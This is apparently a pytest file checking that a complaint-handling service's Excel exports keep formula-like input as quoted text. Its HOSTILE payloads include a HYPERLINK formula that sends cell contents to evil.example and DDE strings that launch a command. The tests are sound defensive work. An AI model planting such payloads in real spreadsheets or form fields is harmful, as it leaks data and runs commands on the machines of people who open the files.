"""Formula injection: every workbook the service writes keeps typed text as text.

A name such as =HYPERLINK("http://…"&A1,"点击核对") must arrive in Excel or LibreOffice as those characters,
never as a live formula: no <f> element in the sheet, and a quote-prefixed string cell."""

import io
import zipfile
from datetime import datetime, timezone
from decimal import Decimal

from openpyxl import load_workbook

from api.spreadsheets import CaseListRow, case_list_xlsx, roster_template
from tests.api.util import PROJECT, complaint
from tests.api.web_client import WebClient

HOSTILE = {
    "employer": '=HYPERLINK("http://evil.example/?"&A1,"点击核对")',
    "complainant": "+cmd|' /C calc'!A0",
    "worker": "-2+3",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what Excel and LibreOffice may evaluate at the start of a cell


def formula_cells(data: bytes) -> list[str]:
    """Where a workbook holds a formula, or a text cell that starts like one without the quote prefix."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            xml = archive.read(name)
            if name.startswith("xl/worksheets/") and (b"<f>" in xml or b"<f " in xml):
                found.append(f"{name}: <f> element")
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r} without quote prefix")
    return found


def texts(data: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(data))
    return {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


def test_text_that_starts_like_a_formula_is_written_as_quoted_text():
    from openpyxl import Workbook

    from api.spreadsheets import put

    workbook = Workbook()
    for row, text in enumerate(HOSTILE.values(), start=1):
        put(workbook.active, row, 1, text)
    put(workbook.active, 10, 1, 12)  # numbers stay numbers
    out = io.BytesIO()
    workbook.save(out)
    assert formula_cells(out.getvalue()) == []
    # as typed, no apostrophe added (XML reads a carriage return back as a line feed)
    assert {text.replace("\r", "\n") for text in HOSTILE.values()} <= texts(out.getvalue())
    assert load_workbook(io.BytesIO(out.getvalue())).active["A10"].value == 12


def test_the_case_list_workbook_keeps_hostile_names_as_text():
    now = datetime(2026, 11, 3, 2, tzinfo=timezone.utc)
    row = CaseListRow(
        case_no="DX-1",
        stage="受理",
        lead_unit="人社局",
        township="—",
        channel="热线",
        received_at=now,
        employer_name=HOSTILE["employer"],
        employer_credit_code=None,
        project_name=HOSTILE["project"],
        complainant_name=HOSTILE["complainant"],
        complainant_phone="-",
        workers_count=1,
        amount_claimed=Decimal("1"),
        amount_owed=None,
        amount_recovered=Decimal("0"),
        next_deadline_at=None,
        overdue=False,
        escalated=False,
        major=False,
        closed_at=None,
    )
    data = case_list_xlsx([row], title=HOSTILE["tab"], conditions=HOSTILE["cr"], generated_at=now)
    assert formula_cells(data) == []
    assert {HOSTILE["employer"], HOSTILE["project"], HOSTILE["complainant"]} <= texts(data)
    assert formula_cells(roster_template()) == []


async def test_every_export_of_the_service_holds_no_formula_made_from_user_input(api):
    clerk = await api.user("clerk1", "clerk", "petition")
    admin = await api.as_admin()
    project = {**PROJECT, "name": HOSTILE["project"], "general_contractor": {"name": HOSTILE["tab"]}}
    r = await api.http.post(
        "/api/cases",
        headers=clerk,
        json=complaint(
            employer={"name": HOSTILE["employer"]},
            complainant={"name": HOSTILE["complainant"]},
            workers=[{"name": HOSTILE["worker"], "amount_owed": "100"}],
            project=project,
        ),
    )
    assert r.status_code == 201, r.text
    month = datetime.now(timezone.utc).strftime("%Y-%m")
    exports = {}
    for url in ("/api/cases/export.xlsx", f"/api/stats/monthly.xlsx?month={month}"):
        r = await api.http.get(url, headers=admin)
        assert r.status_code == 200, (url, r.text[:200])
        exports[url] = r.content
    async with WebClient(api.app) as web:
        assert (await web.login("admin", "admin-password-1")).status_code == 303
        await web.get("/")
        r = await web.post("/cases/export.xlsx", {"q": "=1+1"})
        assert r.status_code == 200, r.text[:200]
        exports["web case list"] = r.content
        r = await web.get(f"/dashboard/monthly.xlsx?month={month}")
        assert r.status_code == 200
        exports["web monthly report"] = r.content
        exports["roster template"] = (await web.get("/static/roster-template.xlsx")).content
    wrong = {name: found for name, data in exports.items() if (found := formula_cells(data))}
    assert wrong == {}
    listed = texts(exports["/api/cases/export.xlsx"])
    assert {HOSTILE["employer"], HOSTILE["complainant"], HOSTILE["project"]} <= listed
